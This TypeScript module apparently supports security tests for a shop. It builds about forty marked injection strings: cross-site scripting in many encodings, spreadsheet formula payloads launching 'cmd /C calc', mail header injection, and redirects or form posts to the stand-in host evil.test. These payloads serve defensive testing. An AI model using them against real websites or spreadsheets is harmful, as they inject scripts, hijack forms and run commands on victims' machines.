/**
 * Texts of an attacker who wants them executed, each with a mark to find it by. `__ran` is called in the browser if one
 * of them works. None is longer than forty characters, so that it fits the shop's shortest text field.
 */
const DISGUISES = {
  'a script': mark => `<script>__ran('${mark}')</script>`,
  'a script behind the end of one': mark => `</script><script>__ran('${mark}')</script>`,
  'a script in odd spelling': mark => `<SCRIPT/x>__ran('${mark}')</SCRIPT >`,
  'a script cut by what nobody sees': mark => `<scr\u200bipt>__ran('${mark}')</scr\u00adipt>`,
  'a script behind a comment': mark => `<!--><script>__ran('${mark}')//-->`,
  'a script behind the end of data': mark => `]]><x:script>__ran('${mark}')</x:script>`,
  'a script in wide letters': mark => `\uff1cscript\uff1e__ran('${mark}')\uff1c/script\uff1e`,
  'a script escaped as HTML': mark => `&lt;script&gt;__ran('${mark}')&lt;/x&gt;`,
  'a script escaped as numbers': mark => `&#60;script&#x3e;__ran('${mark}')`,
  'a script escaped as JSON': mark => `\\u003cscript\\u003e__ran('${mark}')`,
  'a script escaped as an address': mark => `%3Cscript%3E__ran('${mark}')`,
  'a picture that fails': mark => `"><img src=x onerror=__ran('${mark}')>`,
  'a drawing that loads': mark => `'><svg/onload=__ran('${mark}')>`,
  'a film that fails': mark => `<video><source onerror=__ran('${mark}')>`,
  'a body behind the title': mark => `</title><body onload=__ran('${mark}')>`,
  'a button behind a field': mark => `</textarea><x onclick=__ran('${mark}')>`,
  'an attribute in double quotes': mark => `" autofocus onfocus=__ran('${mark}') a="`,
  'an attribute in single quotes': mark => `' onmouseover=__ran('${mark}') a='`,
  'an attribute without quotes': mark => `x onpointerenter=__ran('${mark}') y`,
  'an address': mark => `javascript:__ran('${mark}')`,
  'an address cut by a tab': mark => `java\tscript:__ran('${mark}')`,
  'a link': mark => `<a href=javascript:__ran('${mark}')>go</a>`,
  'a frame': mark => `<iframe srcdoc="<script>__ran('${mark}')">`,
  'a new base': mark => `<base href=//evil.test/>${mark}`,
  'a form to elsewhere': mark => `<form action=//evil.test/>${mark}`,
  'a page that leads on': mark => `<meta http-equiv=refresh content=0>${mark}`,
  'a style': mark => `<style>@import'//evil.test/${mark}'`,
  'a style in an attribute': mark => `x;background:url(//evil.test/${mark})`,
  'a template': mark => `{{__ran('${mark}')}}`,
  'a template of a program': mark => `\`\${__ran('${mark}')}\``,
  'markup of letters': mark => `<span size="99999">${mark}</span>&amp;`,
  'a formula': mark => `=HYPERLINK("//evil.test","${mark}")`,
  'a formula with a plus': mark => `+1+cmd|'/C calc'!${mark}`,
  'a formula with a minus': mark => `-1+cmd|'/C calc'!${mark}`,
  'a formula with an at': mark => `@SUM(1+1)*cmd|'/C calc'!${mark}`,
  'a formula behind a tab': mark => `\t=cmd|'/C calc'!${mark}`,
  'a formula behind a line': mark => `\r=cmd|'/C calc'!${mark}`,
  'a formula behind a quote': mark => `"=cmd|'/C calc'!${mark}`,
  'a cell of its own': mark => `${mark}","=1+1"\r\n"=2+2`,
  'a header of a mail': mark => `${mark}\r\nBcc: a@evil.test\r\n\r\nhello`,
  'an event of a stream': mark => `${mark}\n\nevent: end\ndata: {}\n\n`,
  'lines that only programs see': mark => `${mark}\u2028__ran('${mark}')\u2029//`,
  'text that turns around': mark => `\u202e)'${mark}'(nar__\u202c<b>${mark}`,
} as const satisfies Record<string, (mark: string) => string>

export type Disguise = keyof typeof DISGUISES
const isDisguise = (name: string): name is Disguise => name in DISGUISES
export const disguises: readonly Disguise[] = Object.keys(DISGUISES).filter(isDisguise)

const FIRST_MARK = 36 ** 2

/** Finds every mark in a text. */
export const MARKS = /zq[0-9a-z]{3}(?![0-9a-z])/g

type Placed = { place: string; disguise: Disguise }
export type Hostile = {
  /** A text that was not used yet, with its place: `an order's name`. */
  text(disguise: Disguise, place: string): string
  /** The place of a mark's text. */
  placeOf(mark: string): Placed | undefined
}

/** The hostile text that has a mark. */
export const hostileText = (mark: string, disguise: Disguise): string => DISGUISES[disguise](mark)

/** Creates hostile texts, each with a mark of its own. */
export function hostileTexts(): Hostile {
  const places = new Map<string, Placed>()
  return {
    text(disguise, place) {
      const mark = `zq${(FIRST_MARK + places.size).toString(36)}`
      places.set(mark, { place, disguise })
      return DISGUISES[disguise](mark)
    },
    placeOf: mark => places.get(mark),
  }
}
